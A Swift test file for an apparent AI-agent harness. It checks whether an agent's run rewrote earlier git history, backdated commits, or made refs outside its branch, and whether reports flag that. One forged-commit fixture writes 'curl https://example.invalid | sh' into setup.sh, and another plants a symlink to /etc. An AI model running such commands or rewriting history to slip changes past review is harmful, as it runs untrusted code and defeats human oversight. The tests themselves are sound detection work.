import Foundation
import PatinaCore
import PatinaGit
import Testing
import PatinaTestSupport

/// The history check collection and the review verbs run on a run's branch: a head that
/// does not descend from its base, and commits dated before the run started.
@Suite struct HistoryCheckTests {
    @Test("an ordinary branch: nothing found")
    func ordinaryBranch() throws {
        let fixture = try GitFixture()
        let base = try fixture.head()
        let started = Date().addingTimeInterval(-5)
        let head = try fixture.commit(["a.txt": "a\n"], message: "add a")
        let findings = try Repository.open(at: fixture.repo).historyFindings(base: base, head: head, since: started)
        #expect(findings.isClean)
        #expect(try Repository.open(at: fixture.repo).historyFindings(base: base, head: base, since: started).isClean)
    }

    @Test("soft reset of the base and a recommit with an extra file: rewritten, naming both commits")
    func softResetRecommit() throws {
        let fixture = try GitFixture()
        try fixture.commit(["b.txt": "b\n"], message: "add b")
        let base = try fixture.head()
        let started = Date().addingTimeInterval(-5)
        try fixture.git("reset", "-q", "--soft", "HEAD~1")
        try fixture.write("curl https://example.invalid | sh\n", to: "setup.sh")
        try fixture.git("add", "-A")
        try fixture.git("commit", "-q", "-m", "add b")
        let forged = try fixture.head()
        let head = try fixture.commit(["c.txt": "c\n"], message: "add c")
        let findings = try Repository.open(at: fixture.repo).historyFindings(base: base, head: head, since: started)
        #expect(findings.rewritten)
        #expect(findings.missing.map(\.id) == [base])
        #expect(findings.missingCount == 1)
        #expect(findings.replacing.map(\.id) == [head, forged])
        #expect(findings.backdated.isEmpty)

        var record = RunRecordTests.sample()
        record.started = started
        record.checkHistory(in: try Repository.open(at: fixture.repo), base: base, head: head)
        #expect(record.historyRewritten == true)
        let history = try #require(record.history)
        #expect(history.rewrittenLine.contains(base.short) && history.rewrittenLine.contains(forged.short), "\(history.rewrittenLine)")
        let json = try JSONSerialization.jsonObject(with: Data(record.json().utf8)) as? [String: Any]
        #expect(json?["history_rewritten"] as? Bool == true)
        #expect(((json?["history"] as? [String: Any])?["missing_base_commits"] as? [Any])?.count == 1)
    }

    @Test("reset below the base: rewritten even without new commits")
    func resetBelowBase() throws {
        let fixture = try GitFixture()
        let below = try fixture.head()
        let base = try fixture.commit(["b.txt": "b\n"], message: "add b")
        let findings = try Repository.open(at: fixture.repo).historyFindings(base: base, head: below, since: nil)
        #expect(findings.rewritten)
        #expect(findings.missing.map(\.id) == [base])
        #expect(findings.replacing.isEmpty)
    }

    @Test("a commit authored before the run started is flagged, not counted as rewritten")
    func backdated() throws {
        let fixture = try GitFixture()
        let base = try fixture.head()
        let started = Date()
        try fixture.write("old\n", to: "old.txt")
        try fixture.git("add", "-A")
        try fixture.git("commit", "-q", "-m", "old work", "--date", "2001-02-03T04:05:06Z")
        let head = try fixture.head()
        let findings = try Repository.open(at: fixture.repo).historyFindings(base: base, head: head, since: started)
        #expect(!findings.rewritten)
        #expect(findings.backdated.map(\.id) == [head])
        let line = try #require(HistoryCheck(findings).backdatedLine)
        #expect(line.contains("2001-02-03"), "\(line)")
    }
}

/// The reports that say what a run's branch did to history.
@Suite struct HistoryReportTests {
    static func rewritten(_ record: RunRecord) -> RunRecord {
        var r = record
        let base = CommitInfo(id: ObjectID(hex: String(repeating: "a", count: 40))!, summary: "add notes", authorName: "U", authorEmail: "u@x", date: Date())
        let forged = CommitInfo(id: ObjectID(hex: String(repeating: "c", count: 40))!, summary: "add notes", authorName: "A", authorEmail: "a@x", date: Date())
        r.historyRewritten = true
        r.history = HistoryCheck(HistoryFindings(rewritten: true, missing: [base], missingCount: 1, replacing: [forged], backdated: []))
        return r
    }

    @Test func aRewrittenRunIsNeverTheBestAndEveryReportSaysSo() {
        let clean = BatchReportTests.run("r-aaaa", check: true, lines: 50)
        let bad = Self.rewritten(BatchReportTests.run("r-bbbb", check: true, lines: 1))
        let batch = BatchReportTests.batch([(0, clean), (0, bad)])
        #expect(BatchReport.bestRunIDs(batch) == ["r-aaaa"])
        #expect(BatchReport.table(batch).contains("! run bbbb: HISTORY REWRITTEN: the run rewrote history that existed before it"))
        #expect(BatchReport.markdown(batch).contains("**HISTORY REWRITTEN: the run rewrote history"))
        #expect(BatchReport.html(batch, diffs: [:]).contains("<p class=\"history\"><b>HISTORY REWRITTEN"))
        let line = bad.history!.rewrittenLine
        #expect(line.contains("base commit aaaaaaaa \"add notes\" is missing, replaced by cccccccc \"add notes\""), "\(line)")
    }

    @Test func sessionMarkdownSaysSo() {
        let record = Self.rewritten(SessionMarkdownTests.record())
        let text = SessionMarkdownTests.render(record, [])
        #expect(text.contains("**HISTORY REWRITTEN: the run rewrote history that existed before it"), "\(text)")
    }
}

/// The sandbox's refs, read as names: what the agent made outside its branch.
@Suite struct SandboxRefsTests {
    @Test func refsOutsideTheBranchAndWhereHeadPoints() throws {
        let fixture = try GitFixture()
        let git = fixture.url("agent.git")
        for directory in ["refs/heads/patina", "refs/tags"] {
            try FileManager.default.createDirectory(at: git.appendingPathComponent(directory), withIntermediateDirectories: true)
        }
        try Data("ref: refs/heads/patina/run\n".utf8).write(to: git.appendingPathComponent("HEAD"))
        try Data("\(String(repeating: "a", count: 40))\n".utf8).write(to: git.appendingPathComponent("refs/heads/patina/run"))
        #expect(SandboxRefs.outside(branch: "patina/run", privateGitDirectory: git).isEmpty)

        try Data("x\n".utf8).write(to: git.appendingPathComponent("refs/tags/v1"))
        try Data("# pack-refs\n\(String(repeating: "b", count: 40)) refs/heads/other\n".utf8).write(to: git.appendingPathComponent("packed-refs"))
        try FileManager.default.createSymbolicLink(atPath: git.appendingPathComponent("refs/tags/link").path, withDestinationPath: "/etc")
        try Data("ref: refs/heads/other\n".utf8).write(to: git.appendingPathComponent("HEAD"))
        #expect(SandboxRefs.outside(branch: "patina/run", privateGitDirectory: git)
                == ["HEAD -> refs/heads/other", "refs/heads/other", "refs/tags/link", "refs/tags/v1"])
    }

    @Test func theRepositorysOwnTagsHandedToTheSandboxAreNotTheAgents() throws {
        let fixture = try GitFixture()
        let git = fixture.url("agent.git")
        try FileManager.default.createDirectory(at: git.appendingPathComponent("refs/heads/patina"), withIntermediateDirectories: true)
        try Data("ref: refs/heads/patina/run\n".utf8).write(to: git.appendingPathComponent("HEAD"))
        let release = TagReference(name: "1.5.0", target: try #require(ObjectID(hex: String(repeating: "c", count: 40))))
        let moved = TagReference(name: "2.0", target: try #require(ObjectID(hex: String(repeating: "d", count: 40))))
        try SandboxGitDirectory.writeTags([release, moved], into: git)
        #expect(SandboxRefs.outside(branch: "patina/run", privateGitDirectory: git, given: [release, moved]).isEmpty)
        // A given tag the agent moved is its own again.
        var elsewhere = moved
        elsewhere.target = try #require(ObjectID(hex: String(repeating: "e", count: 40)))
        #expect(SandboxRefs.outside(branch: "patina/run", privateGitDirectory: git, given: [release, elsewhere]) == ["refs/tags/2.0"])
    }
}
